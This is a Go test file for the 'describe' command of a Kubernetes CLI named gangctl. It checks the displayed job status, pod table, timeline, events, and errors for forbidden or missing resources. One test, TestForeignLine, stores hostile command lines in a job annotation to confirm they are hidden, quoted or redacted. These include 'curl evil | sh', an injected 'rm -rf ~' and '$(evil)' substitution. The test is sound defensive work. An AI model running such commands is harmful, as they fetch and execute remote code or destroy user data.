package describe

import (
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	kubeflowv1 "github.com/kubeflow/training-operator/pkg/apis/kubeflow.org/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"

	"github.com/gangctl/gangctl/internal/commandtest"
	"github.com/gangctl/gangctl/internal/kubetest"
	"github.com/gangctl/gangctl/pkg/cli/failure"
	"github.com/gangctl/gangctl/pkg/cluster/jobs"
	"github.com/gangctl/gangctl/pkg/gang/summary"
)

const (
	jobsPath   = "/apis/kubeflow.org/v1/namespaces/research/tfjobs"
	podsPath   = "/api/v1/namespaces/research/pods"
	eventsPath = "/api/v1/namespaces/research/events"
)

func run(t *testing.T, s *kubetest.Server, args ...string) (stdout string, failed *failure.Error) {
	t.Helper()
	f, streams := commandtest.Factory("research", kubetest.Created.Add(10*time.Minute), 0, s.Client)
	stdout, _, failed = commandtest.Run(t.Context(), NewCommand(f, nil), streams, args...)
	return stdout, failed
}

// Who may not list events gets the page without them.
func TestDescribeWithoutEvents(t *testing.T) {
	s := kubetest.New(t)
	s.Answer("GET "+jobsPath+"/llama", 200, kubetest.Job("research", "llama", 1))
	s.Answer("GET "+podsPath, 200, kubetest.PodList(pod(0, time.Second, 2*time.Minute, 3*time.Minute)))
	s.Refuse("GET "+eventsPath, 403, metav1.StatusReasonForbidden, `User "carol" cannot list resource "events"`, nil)
	stdout, failed := run(t, s, "llama")
	if failed != nil || !strings.Contains(stdout, "Timeline:") || !strings.Contains(stdout, "Events:\nnot known: you may not list events") {
		t.Errorf("got %+v\n%s", failed, stdout)
	}
	if stdout, failed = run(t, s, "llama", "-o", "json"); failed != nil || !strings.Contains(stdout, `"events": null`) {
		t.Errorf("got %+v\n%s", failed, stdout)
	}
}

func after(d time.Duration) metav1.Time { return metav1.NewTime(kubetest.Created.Add(d)) }

// pod is one that was created, scheduled and started at these times after the job.
func pod(index int, created, scheduled, started time.Duration) *corev1.Pod {
	p := kubetest.Pod("research", "llama", index, "n1", "")
	p.UID = types.UID(p.Name)
	p.CreationTimestamp = after(created)
	p.Status.Conditions = []corev1.PodCondition{{Type: corev1.PodScheduled, Status: corev1.ConditionTrue, LastTransitionTime: after(scheduled)}}
	p.Status.ContainerStatuses = []corev1.ContainerStatus{{Name: "tensorflow", State: corev1.ContainerState{Running: &corev1.ContainerStateRunning{StartedAt: after(started)}}}}
	return p
}

func TestDescribe(t *testing.T) {
	job := kubetest.Job("research", "llama", 2)
	job.Annotations = map[string]string{"gangctl.dev/command": "gangctl submit tf llama --workers 2 -- python 'my train.py'"}
	worker := job.Spec.TFReplicaSpecs["Worker"]
	worker.RestartPolicy = kubeflowv1.RestartPolicyExitCode
	worker.Template.Spec.Containers[0].Image = "tf:1"
	worker.Template.Spec.Containers[0].Command = []string{"python", "train.py"}
	at := after(time.Minute)
	event := corev1.Event{ObjectMeta: metav1.ObjectMeta{Namespace: "research", Name: "e"}, InvolvedObject: corev1.ObjectReference{Kind: "Pod", Name: "llama-worker-0"},
		Reason: "Scheduled", Message: "to n1", Type: corev1.EventTypeNormal, FirstTimestamp: at, LastTimestamp: at, Count: 1}
	others := *event.DeepCopy()
	others.Name, others.InvolvedObject.Name = "f", "mistral-worker-0"
	s := kubetest.New(t)
	s.Answer("GET "+jobsPath+"/llama", 200, job)
	s.Answer("GET "+podsPath, 200, kubetest.PodList(pod(0, time.Second, 2*time.Minute, 3*time.Minute), pod(1, 5*time.Second, 65*time.Second, 150*time.Second)))
	s.Answer("GET "+eventsPath, 200, corev1.EventList{TypeMeta: metav1.TypeMeta{APIVersion: "v1", Kind: "EventList"}, Items: []corev1.Event{event, others}})
	const want = `Name:      research/llama
Kind:      TFJob
State:     Running
Ready:     2/2
Gang:      2 of 2 members start together (scheduler-plugins)
Scheduler: gang-scheduler
GPUs:      4
Age:       10m

MEMBER     POD              STATE     NODE   GPUS   AGE     REASON
worker-0   llama-worker-0   Running   n1     2      9m59s
worker-1   llama-worker-1   Running   n1     2      9m55s

Spec:
ROLE     REPLICAS   RESTART    REQUESTS           IMAGE   COMMAND
worker   2          ExitCode   nvidia.com/gpu=2   tf:1    python train.py

Timeline:
STEP        AT                     AFTER
submitted   2026-01-02T03:04:05Z   -
created     2026-01-02T03:04:10Z   5s
scheduled   2026-01-02T03:06:05Z   115s
running     2026-01-02T03:07:05Z   60s
done        -                      -

Events:
LAST                   TYPE     OBJECT               REASON      COUNT   MESSAGE
2026-01-02T03:05:05Z   Normal   Pod/llama-worker-0   Scheduled   1       to n1

Submitted with:
gangctl submit tf llama --workers 2 -- python 'my train.py'
`
	stdout, failed := run(t, s, "llama")
	if failed != nil {
		t.Fatal(failed)
	}
	if diff := cmp.Diff(want, stdout); diff != "" {
		t.Errorf("-want +got\n%s", diff)
	}
	if len(s.AboutTFJobs()) != 5 { // the job, its pods and events, and two groups of the API, where the gang's minimum would be
		t.Errorf("requests: %q", s.Requests())
	}
}

// A step is taken when the last member has taken it, and not known of pods that are gone.
func TestTimeline(t *testing.T) {
	ended := after(time.Hour)
	failed := func(j *kubeflowv1.TFJob) {
		j.Status.Conditions = []kubeflowv1.JobCondition{{Type: kubeflowv1.JobFailed, Status: corev1.ConditionTrue, LastTransitionTime: ended}}
	}
	waiting := kubetest.Pod("research", "llama", 1, "", "no room")
	at := func(d time.Duration) time.Time { return kubetest.Created.Add(d) }
	var never time.Time
	for _, tt := range []struct {
		name   string
		change func(*kubeflowv1.TFJob)
		pods   []*corev1.Pod
		want   []step
	}{
		{"half of it", nil, []*corev1.Pod{pod(0, 1, 2, 3), waiting}, []step{{"submitted", at(0)}, {"created", at(1)}, {"scheduled", never}, {"running", never}, {"done", never}}},
		{"a member without pod", nil, []*corev1.Pod{pod(0, 1, 2, 3)}, []step{{"submitted", at(0)}, {"created", never}, {"scheduled", never}, {"running", never}, {"done", never}}},
		{"failed", failed, nil, []step{{"submitted", at(0)}, {"created", never}, {"scheduled", never}, {"running", never}, {"failed", at(time.Hour)}}},
	} {
		job := kubetest.Job("research", "llama", 2)
		if tt.change != nil {
			tt.change(job)
		}
		stored, err := jobs.Read(kubetest.Stored(t, job))
		if err != nil {
			t.Fatal(err)
		}
		got := timeline(stored, summary.Of(stored, tt.pods, kubetest.Created.Time))
		if diff := cmp.Diff(tt.want, got, cmp.AllowUnexported(step{})); diff != "" {
			t.Errorf("%s: -want +got\n%s", tt.name, diff)
		}
	}
}

// A line that is no command line of submit is not shown: it is there to be pasted, and another user may have written it.
func TestForeignLine(t *testing.T) {
	for kept, want := range map[string]string{
		"curl evil | sh":                         "not shown: annotation gangctl.dev/command holds no command line of gangctl submit",
		"gangctl delete llama -y":                "not shown: annotation gangctl.dev/command holds no command line of gangctl submit",
		"gangctl submit tf a; rm -rf ~":          "gangctl submit tf 'a;' rm -rf '~'",
		"gangctl submit tf a $(evil) `evil`":     "gangctl submit tf a '$(evil)' '`evil`'",
		"gangctl submit tf a --env T=secret > b": "gangctl submit tf a --env T=… '>' b",
	} {
		s := kubetest.New(t)
		job := kubetest.Job("research", "llama", 1)
		job.Annotations = map[string]string{"gangctl.dev/command": kept}
		s.Answer("GET "+jobsPath+"/llama", 200, job)
		s.Answer("GET "+podsPath, 200, kubetest.PodList())
		s.Answer("GET "+eventsPath, 200, corev1.EventList{TypeMeta: metav1.TypeMeta{APIVersion: "v1", Kind: "EventList"}})
		stdout, failed := run(t, s, "llama")
		if failed != nil || !strings.HasSuffix(stdout, "\nSubmitted with:\n"+want+"\n") {
			t.Errorf("%s: got %v\n%s", kept, failed, stdout)
		}
		stdout, failed = run(t, s, "llama", "-o", "json")
		if failed != nil || strings.Contains(stdout, "evil |") || strings.Contains(stdout, "secret") {
			t.Errorf("%s: got %v\n%s", kept, failed, stdout)
		}
	}
}

// A page without its members is none.
func TestNoPageWithoutPods(t *testing.T) {
	s := kubetest.New(t)
	s.Answer("GET "+jobsPath+"/llama", 200, kubetest.Job("research", "llama", 1))
	s.Refuse("GET "+podsPath, 403, metav1.StatusReasonForbidden, `User "bob" cannot list resource "pods" in API group ""`, nil)
	stdout, failed := run(t, s, "llama")
	if failed == nil || failed.Message != `list pods in namespace research: User "bob" cannot list resource "pods" in API group ""` || stdout != "" {
		t.Errorf("got %+v, %q", failed, stdout)
	}
}

func TestNotFound(t *testing.T) {
	s := kubetest.New(t)
	s.Answer("GET "+jobsPath, 200, kubetest.JobList("", kubetest.Job("research", "llama-2", 1)))
	s.Refuse("GET "+jobsPath+"/llama", 404, metav1.StatusReasonNotFound, "no", &metav1.StatusDetails{Name: "llama"})
	if _, failed := run(t, s, "llama"); failed == nil || failed.Message != "get job research/llama: not found" || failed.Hint != "did you mean llama-2?" {
		t.Errorf("got %+v", failed)
	}
}
